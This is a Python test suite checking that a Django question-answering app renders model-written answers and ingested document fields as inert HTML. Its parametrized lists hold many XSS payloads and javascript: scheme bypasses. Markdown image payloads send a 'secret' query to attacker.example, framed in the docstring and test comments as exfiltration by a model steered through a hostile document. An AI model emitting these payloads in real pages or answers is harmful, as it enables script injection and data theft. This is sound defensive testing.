"""Output handling: whatever a model or a document writes reaches a browser as inert HTML.

Answers are Markdown from a model that may have been steered by a hostile document; titles
and URLs come from whoever ingested a document. Every surface that shows them (the answer
HTML, the Sources panel, the stored answer page, the admin) must neutralize them.
"""

from __future__ import annotations

import json

import pytest
from bs4 import BeautifulSoup
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from answers import pipeline, presenters, services
from answers.models import Answer
from answers.panels import FINAL, PROVISIONAL, render_sources_panel
from answers.rendering import render_answer_html, sanitize_html
from tests.helpers import api_get, api_post, ask, start
from tests.security.inert import (
    PANEL_TAGS,
    assert_inert,
    assert_page_has_no_injected_script,
    assert_safe_url,
    event_handler_attributes,
    url_scheme,
)

PREFIX = "answer-1-source"


def render(text: str, sources: int = 2) -> str:
    return render_answer_html(text, anchor_prefix=PREFIX, source_count=sources)


@pytest.fixture
def inert(payload: str) -> BeautifulSoup:
    """The answer ``payload`` (the test's parameter) rendered, and asserted inert."""
    return assert_inert(render(payload))


# --- (1) raw HTML in an answer ----------------------------------------------------------

RAW_HTML = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>@import 'https://attacker.example/x.css';</style>",
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!-- --><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<p title="x" onmouseover="alert(1)">hover</p>',
    # Raw HTML mixed into Markdown structures and next to citations.
    "**bold** <img src=x onerror=alert(1)> [1]",
    "- item <script>alert(1)</script>\n- [2]<svg onload=alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [1] |",
    "> quote <iframe src=javascript:alert(1)></iframe>",
    "# Title <script>alert(1)</script>",
    "`<script>alert(1)</script>` and <b onclick=alert(1)>b</b>",
    "<https://ok.example/?<script>alert(1)</script>>",
]


@pytest.mark.parametrize("payload", RAW_HTML)
def test_raw_html_in_an_answer_is_inert(inert):
    # The text survives as text: raw HTML is shown, not dropped silently into markup.
    assert inert.get_text().strip()


def test_forged_citation_placeholders_in_the_text_never_become_links():
    # The renderer's private-use placeholder characters are removed from the input first,
    # so a model cannot forge a citation link (or smuggle markup through the substitution).
    forged = '\ue0001\ue001 \ue000"><script>alert(1)</script>\ue001'
    soup = assert_inert(render(forged, sources=1))
    assert soup.select("a.citation") == []


# --- (2) Markdown links with dangerous schemes -----------------------------------------

DANGEROUS_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#x20;javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    " <javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "[x [1]](javascript:alert(1))",
]


@pytest.mark.parametrize("payload", DANGEROUS_LINKS)
def test_markdown_links_with_dangerous_schemes_are_neutralized(inert):
    for a in inert.find_all("a"):
        assert url_scheme(a.get("href", "")) in (None, "http", "https", "mailto")


@pytest.mark.parametrize(
    ("payload", "href"),
    [
        ("[x](https://ok.example/a)", "https://ok.example/a"),
        ("[x](mailto:someone@example.com)", "mailto:someone@example.com"),
        ("<https://ok.example>", "https://ok.example"),
    ],
)
def test_safe_links_still_work_and_cannot_reach_the_opener(payload, href):
    """The control for the test above: links are not simply all removed."""
    a = assert_inert(render(payload)).find("a")
    assert a is not None and a["href"] == href
    assert {"noopener", "noreferrer"} <= set(a["rel"])


def test_the_url_helper_itself_flags_dangerous_urls():
    """The assertion the suite relies on would catch the classic bypasses."""
    for bad in ["javascript:x", " JaVaScRiPt:x", "java\tscript:x", "\x01javascript:x", "data:x"]:
        with pytest.raises(AssertionError):
            assert_safe_url(bad)
    for bad in ["//evil.example", "/\\evil.example", "/\t/evil.example"]:
        with pytest.raises(AssertionError):
            assert_safe_url(bad)
    for good in ["https://a.example", "mailto:a@b", "#frag", "/path", "java%09script:x"]:
        assert_safe_url(good)


# A document's URL as a browser follows it, and what the Sources panel may say about it.
OFF_SITE = [
    # (stored url, the link given, where the panel says it goes)
    ("/\\evil.example/login", None, "In the corpus"),  # "\\" is "/": //evil.example
    ("/\t/evil.example/login", None, "In the corpus"),  # the tab is dropped: //evil.example
    ("HTTPS://evil.example/login", "https://evil.example/login", "evil.example"),
    ("https://evil.example\\@docs.trusted.example/page", None, "In the corpus"),
    ("https:evil.example/login", None, "In the corpus"),  # a browser adds the slashes
    ("https:/evil.example/login", None, "In the corpus"),
    (" https://ok.example/a\n", "https://ok.example/a", "ok.example"),
    ("https://ok.example/search?q=a\\b", "https://ok.example/search?q=a\\b", "ok.example"),
    ("http://[::1/x", None, "In the corpus"),
]


@pytest.mark.parametrize(("stored", "link", "where"), OFF_SITE)
def test_a_source_link_goes_where_the_panel_says(stored, link, where):
    """The panel names the host a link really goes to, or links the copy in the corpus:
    a URL a browser reads differently from its text ("/\\evil", "HTTPS://", a tab, a
    backslash before "@") must not pass for a page here or for a trusted host."""
    from answers.presenters import location_of, reference_url
    from answers.rendering import safe_url

    assert safe_url(stored) == link
    followed = reference_url(document_id=7, url=stored, ordinal=None)
    assert followed == (link or followed) and (link or followed.startswith("/documents/7/"))
    assert location_of(followed) == where
    assert_safe_url(followed)


def test_an_off_site_url_is_shown_as_the_copy_in_the_corpus_on_the_page(client, asker, scripted):
    result = services.document_ingest(
        source_key="offsite:1", title="Numbat care", body="numbat wombat care notes",
        url="/\\evil.example/login", chunk_size=1200,
    )  # fmt: skip
    scripted.script = ["Care [1]."]
    body = api_post(client, "/api/answers", {"question": "numbat wombat"}, user=asker).json()
    assert [r["url"] for r in body["references"]] == [f"/documents/{result.document.pk}/#chunk-0"]
    client.force_login(asker)
    soup = BeautifulSoup(client.get(f"/answers/{body['answer_id']}/").content, "html.parser")
    assert soup.select_one(".source-title")["href"].startswith("/documents/")
    assert soup.select_one(".source-where").get_text(strip=True) == "In the corpus"
    page = BeautifulSoup(client.get(f"/documents/{result.document.pk}/").content, "html.parser")
    original = page.select_one(".document-url a")
    assert original is None or original["href"] == "#"


# --- (3) images: an exfiltration channel ------------------------------------------------

IMAGES = [
    "![x](https://attacker.example/?q=secret)",
    "![x][img]\n\n[img]: https://attacker.example/?q=secret",
    "[![x](https://attacker.example/?q=secret)](https://ok.example)",
    '<img src="https://attacker.example/?q=secret">',
    "![x](https://attacker.example/?q=secret 'title')",
    "| a |\n|---|\n| ![x](https://attacker.example/?q=secret) |",
]


@pytest.mark.parametrize("payload", IMAGES)
def test_images_in_an_answer_load_nothing(payload):
    """An image would fetch its URL on render, leaking whatever the model put in it."""
    html = render(payload)
    soup = assert_inert(html)
    assert soup.find("img") is None
    for tag in soup.find_all(True):
        for name in ("src", "srcset", "poster", "data", "background"):
            assert "attacker.example" not in str(tag.get(name, ""))
    if "[img]:" in payload:
        # Reference definitions are off (ADR 0004): the whole thing is text, loading nothing.
        assert soup.select_one(".image-placeholder") is None
        assert soup.find("a") is None
    elif payload.startswith("!["):
        # Shown as its description, without the URL.
        assert "attacker.example" not in html
        assert soup.select_one(".image-placeholder").get_text() == "[image: x]"


# --- (5) hostile document titles and URLs through the real pipeline ---------------------

HOSTILE_TITLE = '"><script>alert(1)</script>'
HOSTILE_URL = "javascript:alert(1)"
HOSTILE_BODY = (
    "zeppelin quokka text about a quokka that rides a zeppelin. "
    '<img src=x onerror=alert(2)> <script>alert(3)</script> "><a href="javascript:alert(4)">'
)


@pytest.fixture
def hostile_answer(client, asker, scripted):
    """A document with a hostile title, URL and body, cited by a stored answer."""
    result = services.document_ingest(
        source_key="hostile:1",
        title=HOSTILE_TITLE,
        body=HOSTILE_BODY,
        url=HOSTILE_URL,
        chunk_size=1200,
    )
    assert result.document.url == HOSTILE_URL  # ingest stored it unvalidated: the attack
    scripted.script = ["x [1]"]
    response = api_post(client, "/api/answers", {"question": "zeppelin quokka"}, user=asker)
    assert response.status_code == 200, response.content
    body = response.json()
    assert [r["document_id"] for r in body["references"]] == [result.document.pk]
    return body, result.document


def test_hostile_document_fields_are_inert_in_the_api_html(hostile_answer):
    body, _ = hostile_answer
    assert "<script>alert" not in body["html"]
    assert 'href="javascript:' not in body["html"]
    assert_inert(body["html"])


def test_api_json_with_hostile_fields_cannot_be_sniffed_as_html(client, asker, hostile_answer):
    body, _ = hostile_answer
    response = api_get(client, f"/api/answers/{body['answer_id']}", user=asker)
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert_inert(response.json()["html"])


def test_api_references_never_carry_a_dangerous_url(hostile_answer):
    body, _ = hostile_answer
    for reference in body["references"]:
        assert_safe_url(reference["url"])


def test_hostile_document_fields_are_inert_in_the_sources_panel(asker, hostile_answer):
    body, document = hostile_answer
    answer = Answer.objects.get(pk=body["answer_id"])

    payload = presenters.answer_payload(answer=answer, user=asker)
    run = start(user=asker, question="zeppelin quokka")
    for references, state in ((payload.references, FINAL), (run.references(), PROVISIONAL)):
        assert [r.document_id for r in references] == [document.pk]
        html = render_sources_panel(references=references, answer_id=answer.pk, state=state)
        assert "<script>alert" not in html
        soup = assert_inert(html, own_tags=PANEL_TAGS)
        assert len(soup.select("details")) == len(references)
        # The hostile passage is there as words, never as markup.
        assert soup.select_one(".excerpt a") is None and soup.select_one(".excerpt img") is None
        assert soup.select_one(".source-title").get_text() == HOSTILE_TITLE  # shown, as text


def test_hostile_document_fields_are_inert_on_the_stored_answer_page(client, asker, hostile_answer):
    body, _ = hostile_answer
    client.force_login(asker)
    response = client.get(f"/answers/{body['answer_id']}/")
    assert response.status_code == 200
    html = response.content.decode()
    assert_page_has_no_injected_script(html)
    soup = BeautifulSoup(html, "html.parser")
    assert soup.select_one(".source-title").get_text() == HOSTILE_TITLE
    # An unsafe URL is replaced by the document's page on this site.
    assert soup.select_one(".source-title")["href"].startswith("/documents/")


def test_hostile_document_url_is_inert_on_the_document_page(client, asker, hostile_answer):
    _, document = hostile_answer
    client.force_login(asker)
    response = client.get(f"/documents/{document.pk}/")
    assert response.status_code == 200
    assert_page_has_no_injected_script(response.content.decode())


def _csp(response) -> dict[str, list[str]]:
    header = response.headers.get("Content-Security-Policy", "")
    directives = (part.split() for part in header.split(";") if part.strip())
    return {d[0]: d[1:] for d in directives}


def test_pages_showing_document_fields_forbid_inline_and_foreign_script(
    client, asker, hostile_answer
):
    """The second line of defence: even a javascript: link or an injected tag cannot run,
    and an injected image cannot load from another origin."""
    body, document = hostile_answer
    client.force_login(asker)
    for path in (f"/answers/{body['answer_id']}/", f"/documents/{document.pk}/", "/"):
        policy = _csp(client.get(path))
        scripts = policy.get("script-src", policy.get("default-src"))
        assert scripts == ["'self'"], (path, policy)
        assert policy.get("object-src") == ["'none'"]
        assert policy.get("base-uri") == ["'self'"]
        assert policy.get("img-src", policy.get("default-src")) == ["'self'"]
        assert policy.get("frame-ancestors") == ["'none'"]


def test_hostile_document_fields_are_inert_in_the_admin(admin_client, hostile_answer):
    body, document = hostile_answer
    pages = [
        reverse("admin:answers_answer_change", args=[body["answer_id"]]),
        reverse("admin:answers_answer_changelist"),
        reverse("admin:answers_document_change", args=[document.pk]),
        reverse("admin:answers_document_changelist"),
    ]
    for url in pages:
        response = admin_client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_page_has_no_injected_script(html)
    # The title is shown on the answer's page, escaped.
    html = admin_client.get(pages[0]).content.decode()
    assert "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_hostile_fields_are_inert_in_the_done_event(asker, hostile_answer):
    """The done event's html and panel, which the page's script assigns to innerHTML."""
    done = ask(user=asker, question="zeppelin quokka")
    assert isinstance(done, pipeline.DoneEvent)
    assert_inert(done.answer.html)
    panel = render_sources_panel(
        references=done.answer.references, answer_id=done.answer.answer_id, state=FINAL
    )
    assert_inert(panel, own_tags=PANEL_TAGS)
    assert "<script>alert" not in json.dumps(done.to_dict()["html"])


# --- (6) sanitizing is a fixed point, and no handler survives --------------------------

HOSTILE_WORDS = [
    "<", ">", '"', "'", "&", "=", "/", ":", ";", "(", ")", "[", "]", "!", "*", "_", "`",
    "javascript", "script", "onerror", "onload", "img", "svg", "a href", "src", "alert",
    "[1]", "[2, 3]", "<script>", "</script>", "<img ", "](", "![", "&#", "x09;", "\n", "\n\n",
    " ", "|", "-", "#", "1", "9",
]  # fmt: skip
hostile_text = st.lists(
    st.one_of(
        st.sampled_from(HOSTILE_WORDS),
        st.text(alphabet="<>\"'&=/:;()[]!*_`abcjsvxn019 \n", max_size=6),
    ),
    max_size=40,
).map("".join)


@hypothesis_settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=hostile_text, sources=st.integers(0, 3))
def test_rendered_output_is_a_fixed_point_of_the_sanitizer(text, sources):
    html = render(text, sources)
    assert sanitize_html(html) == html
    assert event_handler_attributes(html) == []
    assert_inert(html)
